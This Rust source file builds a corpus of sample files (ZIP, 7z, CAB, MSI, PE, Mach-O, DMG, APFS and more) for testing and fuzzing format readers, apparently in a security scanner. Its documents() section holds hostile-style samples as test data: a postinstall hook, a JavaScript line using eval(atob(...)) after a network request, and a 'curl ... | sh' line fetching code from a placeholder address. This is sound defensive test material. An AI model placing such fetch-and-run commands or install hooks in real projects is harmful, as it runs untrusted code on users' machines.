//! Sound files of every format that has a reader, for damage and for fuzzing: some made by writers of others, the rest
//! by `samples`.

use std::io::{Cursor, Write};

use evidence::Digest;
use forge::{PeImage, TestSigner, ThreeCx, elf_executable, tar_gz, zip_stored};
use sevenz_rust2::{ArchiveEntry, ArchiveWriter, EncoderMethod};

use crate::samples::{
    DEVICE, File, REGULAR, SYMLINK, asar, asar_integrity, cab, cpio_newc, cpio_odc, gzip, iso, lz4,
    lzx_aligned, lzx_verbatim, rpm, squashfs, tar,
};
use crate::samples_apple::{LZFSE, LZVN, apfs, dmg, hfs, unhex};
use crate::samples_disk::{ext, fat, gpt, mbr};

/// A sound file.
#[derive(Clone)]
pub(crate) struct Sound {
    /// Which reader it is for.
    pub(crate) reader: &'static str,
    /// A name, by which some formats are known.
    pub(crate) name: &'static str,
    pub(crate) bytes: Vec<u8>,
}

/// One file or more for each reader.
pub(crate) fn corpus() -> Vec<Sound> {
    [images(), archives(), streams(), installers(), volumes(), documents()].concat()
}

fn sound(reader: &'static str, name: &'static str, bytes: Vec<u8>) -> Sound {
    Sound { reader, name, bytes }
}

fn images() -> Vec<Sound> {
    let image = PeImage { name: "a.dll".into(), exports: vec!["f".into()], ..PeImage::default() }.bytes();
    let zip = zip_stored(&[("a", b"1"), ("b", &[7; 2000])]).unwrap();
    let cabinet = cab(1, &[("a", b"1")], &[b"1"]);
    let library = ThreeCx::new().first().file("vendor/d3dcompiler_47.dll").unwrap().to_vec();
    let list = forge::catalog_list(&[("a.dll", forge::image_digest(&image))]);
    let signed = TestSigner::new("corpus").sign_catalog(&list);
    let driver = zip_stored(&[("a.dll", image.as_slice()), ("a.cat", &signed)]).unwrap();
    vec![
        sound("catalog", "x.cat", signed),
        sound("catalog", "x.zip", driver),
        sound("apk", "x.apk", TestSigner::new("corpus").sign_package(&zip)),
        sound("authenticode", "x.dll", TestSigner::new("corpus").sign(&image)),
        sound("authenticode", "x.dll", library),
        sound("pe", "x.dll", image),
        sound("wasm", "x.wasm", wasm()),
        sound("elf", "x", elf_executable(b"content")),
        sound("macho", "x", mach_o()),
        sound("macho", "x", signed_mach_o()),
        sound("attached", "x", [elf_executable(b"content"), zip].concat()),
        sound("attached", "x", [elf_executable(b"content"), cabinet].concat()),
    ]
}

/// A module with an import, a memory of its own, an export, a start, one function, and its producer.
pub(crate) fn wasm() -> Vec<u8> {
    let section = |id: u8, content: &[u8]| [&[id, content.len() as u8], content].concat();
    let producers = b"\x09producers\x01\x0cprocessed-by\x01\x05rustc\x061.95.0";
    [
        b"\0asm\x01\0\0\0".to_vec(),
        section(1, b"\x01\x60\0\0"),
        section(2, b"\x01\x16wasi_snapshot_preview1\x09sock_open\0\0"),
        section(3, b"\x01\0"),
        section(5, b"\x01\0\x01"),
        section(7, b"\x01\x03run\0\x01"),
        section(8, b"\x01"),
        section(10, b"\x01\x02\0\x0b"),
        section(0, producers),
    ]
    .concat()
}

fn archives() -> Vec<Sound> {
    let files: [File; 3] = [("a", REGULAR, b"1"), ("b", SYMLINK, b"a"), ("c", DEVICE, b"")];
    let ar = b"!<arch>\na.txt/          0           0     0     644     4         `\nabcd".to_vec();
    let directory =
        format!(r#"{{"files":{{"a":{{"size":1,"offset":"0","integrity":{}}}}}}}"#, asar_integrity(b"1"));
    vec![
        sound("zip", "x.zip", zip_stored(&[("a", b"1"), ("b", &[7; 2000])]).unwrap()),
        sound("tar", "x.tar", tar(&[("a", b"1"), ("b", &[7; 600])], true)),
        sound("gzip", "x.tar.gz", tar_gz(&[("a", b"1"), ("b", &[7; 2000])]).unwrap()),
        sound("ar", "x.a", ar),
        sound("cpio", "x.cpio", cpio_newc(&files, false)),
        sound(
            "cpio",
            "x.cpio",
            cpio_newc(&[("a", REGULAR, b"1"), ("b", SYMLINK, b"a"), ("c", REGULAR, &[7; 300])], true),
        ),
        sound("cpio", "x.cpio", cpio_odc(&files)),
        sound("rpm", "x.rpm", rpm("echo", &gzip(&cpio_newc(&[("a", REGULAR, b"1")], false)))),
        sound("asar", "x.asar", asar(&directory, b"1")),
        sound("7z", "x.7z", sevenz(EncoderMethod::LZMA2, &[("a", b"1"), ("b", &[7; 300])])),
        sound("7z", "x.7z", sevenz(EncoderMethod::PPMD, &[("a", b"content"), ("b", &[7; 300])])),
        sound("xar", "x.pkg", package(b"payload", None)),
        sound("cab", "x.cab", cab(1, &[("a", &[7; 400]), ("b", b"1")], &[&[7; 300], &[7; 101]])),
        sound("cab", "x.cab", cab(0x0f03, &[("a", &[0; 12])], &[&lzx_verbatim().0])),
        sound("cab", "x.cab", cab(0x0f03, &[("a", &[0; 24])], &[&lzx_aligned().0])),
    ]
}

fn streams() -> Vec<Sound> {
    let content = [&[7; 300], b"content of a stream".as_slice()].concat();
    let mut xz = liblzma::write::XzEncoder::new(Vec::new(), 6);
    xz.write_all(&content).unwrap();
    let options = liblzma::stream::LzmaOptions::new_preset(6).unwrap();
    let lzma = liblzma::stream::Stream::new_lzma_encoder(&options).unwrap();
    let mut lzma = liblzma::write::XzEncoder::new_stream(Vec::new(), lzma);
    lzma.write_all(&content).unwrap();
    let mut bzip2 = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::best());
    bzip2.write_all(&content).unwrap();
    // A stored block of one byte, and the end (RFC 7932, section 9.2).
    let brotli = b"\x0b\x00\x80\x41\x03".to_vec();
    vec![
        sound("xz", "x.xz", xz.finish().unwrap()),
        sound("lzma", "x.lzma", lzma.finish().unwrap()),
        sound("bzip2", "x.bz2", bzip2.finish().unwrap()),
        sound("zstd", "x.zst", zstd::encode_all(content.as_slice(), 3).unwrap()),
        sound("lz4", "x.lz4", lz4(&[7; 3000])),
        sound("brotli", "x.br", brotli),
        sound("pbzx", "Payload", pbzx(b"first", b"second")),
    ]
}

fn installers() -> Vec<Sound> {
    vec![sound("msi", "x.msi", msi("cmd", &cab(1, &[("f1", b"content")], &[b"content"])))]
}

fn volumes() -> Vec<Sound> {
    vec![
        sound("dmg", "x.dmg", dmg(1, &hfs(b"1"), 7 * 4096)),
        sound("dmg", "x.dmg", dmg(0x8000_0007, &unhex(LZVN), 512)),
        sound("dmg", "x.dmg", dmg(0x8000_0007, &unhex(LZFSE), 8192)),
        sound("hfs", "x.hfs", hfs(b"1")),
        sound("apfs", "x.apfs", apfs(b"1")),
        sound("iso", "x.iso", iso(&[("long name", b"1")], &[("Only Here", b"2")])),
        sound("squashfs", "x.snap", squashfs(&[("a", &[7; 5000]), ("b", b"1")], false)),
        sound("squashfs", "x.snap", squashfs(&[("a", &[7; 5000]), ("b", b"1")], true)),
        sound("ext", "x.img", ext(&[b'c'; 1500])),
        sound("fat", "x.img", fat(false)),
        sound("fat", "x.img", fat(true)),
        sound("partitions", "x.img", mbr(b"first", [b"second", b"third"])),
        sound("partitions", "x.img", gpt("a name", b"first")),
    ]
}

/// What is no container: scripts, hooks, text.
fn documents() -> Vec<Sound> {
    vec![
        sound("content", "package.json", br#"{"name":"a","scripts":{"postinstall":"node x.js"}}"#.to_vec()),
        sound(
            "content",
            "x.js",
            b"const h=require('https');h.get('https://example.test/a');eval(atob('YQ=='))".to_vec(),
        ),
        sound("content", "x.sh", b"#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\n".to_vec()),
    ]
}

/// A database with a file, in a cabinet, and a custom action.
pub(crate) fn msi(command: &str, cabinet: &[u8]) -> Vec<u8> {
    let file = Cursor::new(Vec::new());
    let mut package = msi::Package::create(msi::PackageType::Installer, file).unwrap();
    let text = |name: &str| msi::Column::build(name).string(0);
    let tables = [
        (
            "Directory",
            vec![
                vec!["TARGETDIR", "", "SourceDir"],
                vec!["ProgramFilesFolder", "TARGETDIR", "."],
                vec!["APP", "ProgramFilesFolder", "DEMO~1|Demo App"],
            ],
            vec!["Directory", "Directory_Parent", "DefaultDir"],
        ),
        ("Component", vec![vec!["C", "APP"]], vec!["Component", "Directory_"]),
        (
            "File",
            vec![vec!["f1", "C", "FFMPEG~1.DLL|ffmpeg long.dll"]],
            vec!["File", "Component_", "FileName"],
        ),
        ("CustomAction", vec![vec!["Act", command]], vec!["Action", "Target"]),
    ];
    for (name, rows, columns) in tables {
        let columns = columns.iter().enumerate().map(|(number, column)| {
            let column = msi::Column::build(*column);
            if number == 0 { column.primary_key().string(72) } else { column.nullable().string(255) }
        });
        package.create_table(name, columns.collect()).unwrap();
        let rows = rows.into_iter().map(|row| {
            row.into_iter()
                .map(|value| if value.is_empty() { msi::Value::Null } else { msi::Value::from(value) })
                .collect()
        });
        package.insert_rows(msi::Insert::into(name).rows(rows.collect())).unwrap();
    }
    let columns = vec![
        msi::Column::build("Name").primary_key().string(72),
        text("Comment"),
        msi::Column::build("Count").nullable().int32(),
    ];
    package.create_table("Odd", columns).unwrap();
    let row = vec![msi::Value::from("a\tb"), msi::Value::from("é"), msi::Value::Int(-5)];
    package.insert_rows(msi::Insert::into("Odd").row(row)).unwrap();
    package.write_stream("app.cab").unwrap().write_all(cabinet).unwrap();
    package.into_inner().unwrap().into_inner()
}

/// A 7z archive, with a folder.
pub(crate) fn sevenz(method: EncoderMethod, files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ArchiveWriter::new(Cursor::new(Vec::new())).unwrap();
    writer.set_content_methods(vec![method.into()]);
    for (name, content) in files {
        writer.push_archive_entry(ArchiveEntry::new_file(name), Some(*content)).unwrap();
    }
    writer.push_archive_entry::<&[u8]>(ArchiveEntry::new_directory("folder"), None).unwrap();
    writer.finish().unwrap().into_inner()
}

pub(crate) fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// A `pbzx` stream of one stored chunk and one of xz.
pub(crate) fn pbzx(first: &[u8], second: &[u8]) -> Vec<u8> {
    let mut packed = liblzma::write::XzEncoder::new(Vec::new(), 6);
    packed.write_all(second).unwrap();
    let packed = packed.finish().unwrap();
    let mut out = b"pbzx\0\0\0\0\0\0\x10\0".to_vec();
    for (size, chunk) in [(first.len(), first), (second.len(), &packed)] {
        out.extend((size as u64).to_be_bytes());
        out.extend((chunk.len() as u64).to_be_bytes());
        out.extend(chunk);
    }
    out
}

/// A package with a payload and a script.
pub(crate) fn package(payload: &[u8], table_size: Option<u64>) -> Vec<u8> {
    let script = zlib(b"#!/bin/sh\n");
    let data = |offset: usize, length: usize, size: usize, encoding: &str| {
        format!(
            "<data><length>{length}</length><offset>{offset}</offset><size>{size}</size><encoding style=\"{encoding}\"/></data>"
        )
    };
    let table = format!(
        "<?xml version=\"1.0\"?><xar><toc><checksum style=\"sha1\"><offset>0</offset><size>20</size></checksum>\
        <file id=\"1\"><name>app.pkg</name><type>directory</type>\
        <file id=\"2\">{}<type>file</type><mode>0644</mode><name>Payload</name></file>\
        <file id=\"3\">{}<type>file</type><mode>0755</mode><name>post&amp;install</name></file>\
        </file></toc></xar>",
        data(20, payload.len(), payload.len(), "application/octet-stream"),
        data(20 + payload.len(), script.len(), 10, "application/x-gzip"),
    );
    let packed = zlib(table.as_bytes());
    let mut out = b"xar!\0\x1c\0\x01".to_vec();
    out.extend((packed.len() as u64).to_be_bytes());
    out.extend(table_size.unwrap_or(table.len() as u64).to_be_bytes());
    out.extend([0, 0, 0, 1]);
    [out, packed, vec![7; 20], payload.to_vec(), script].concat()
}

/// A thin Mach-O library with one segment, one section, one library and an identity.
pub(crate) fn mach_o() -> Vec<u8> {
    let mut commands: Vec<u8> = Vec::new();
    let word = |value: u32| value.to_le_bytes();
    let mut segment = [word(0x19), word(72 + 80)].concat();
    segment.extend(b"__TEXT\0\0\0\0\0\0\0\0\0\0");
    for value in [0_u64, 0x1000, 0, 0x1000] {
        segment.extend(value.to_le_bytes());
    }
    for value in [7, 5, 1, 0] {
        segment.extend(word(value));
    }
    segment.extend(b"__text\0\0\0\0\0\0\0\0\0\0__TEXT\0\0\0\0\0\0\0\0\0\0");
    segment.extend([0x800_u64.to_le_bytes(), 4_u64.to_le_bytes()].concat());
    for value in [0x800, 0, 0, 0, 0, 0, 0, 0] {
        segment.extend(word(value));
    }
    commands.extend(segment);
    let library = b"/usr/lib/libSystem.B.dylib\0\0\0\0\0\0";
    commands
        .extend([word(0xc), word(24 + library.len() as u32), word(24), word(0), word(0), word(0)].concat());
    commands.extend(library);
    commands.extend([word(0x1b), word(24)].concat());
    commands.extend([0xab; 16]);
    commands.extend([word(0x1d), word(16), word(0xe00), word(0x200)].concat());
    let header = [
        word(0xfeed_facf),
        word(0x0100_0007),
        word(3),
        word(6),
        word(4),
        word(commands.len() as u32),
        word(0x20_0000),
        word(0),
    ];
    let mut file = [header.concat(), commands].concat();
    file.resize(0x1000, 0);
    file
}

/// The library above with a code signature: one page, entitlements, a team, the hardened runtime.
pub(crate) fn signed_mach_o() -> Vec<u8> {
    const AT: usize = 0xe00;
    let mut file = mach_o();
    let word = |value: u32| value.to_be_bytes();
    let list = b"<plist><dict><key>com.apple.security.cs.allow-jit</key><true/></dict></plist>";
    let entitlements = [&word(0xfade_7171)[..], &word(8 + list.len() as u32), list].concat();
    let names = b"app\0TEAM\0";
    let hashes = 88 + names.len() + 5 * 32;
    let length = hashes + 32;
    let mut directory = Vec::new();
    for value in [
        0xfade_0c02,
        length as u32,
        0x2_0400,
        0x1_0000,
        hashes as u32,
        88,
        5,
        1,
        AT as u32,
        // Hash size, SHA-256, no platform, pages of 4,096 bytes.
        0x2002_000c,
        0,
        0,
        92,
    ] {
        directory.extend(word(value));
    }
    directory.resize(88, 0);
    directory.extend(names);
    directory.extend(Digest::of(&entitlements).as_bytes());
    directory.resize(hashes, 0);
    directory.extend(Digest::of(&file[..AT]).as_bytes());
    let first = 12 + 2 * 8;
    let whole = first + directory.len() + entitlements.len();
    let mut blob = Vec::new();
    for value in [0xfade_0cc0, whole as u32, 2, 0, first as u32, 5, (first + directory.len()) as u32] {
        blob.extend(word(value));
    }
    blob.extend(directory);
    blob.extend(entitlements);
    file[AT..AT + blob.len()].copy_from_slice(&blob);
    file
}
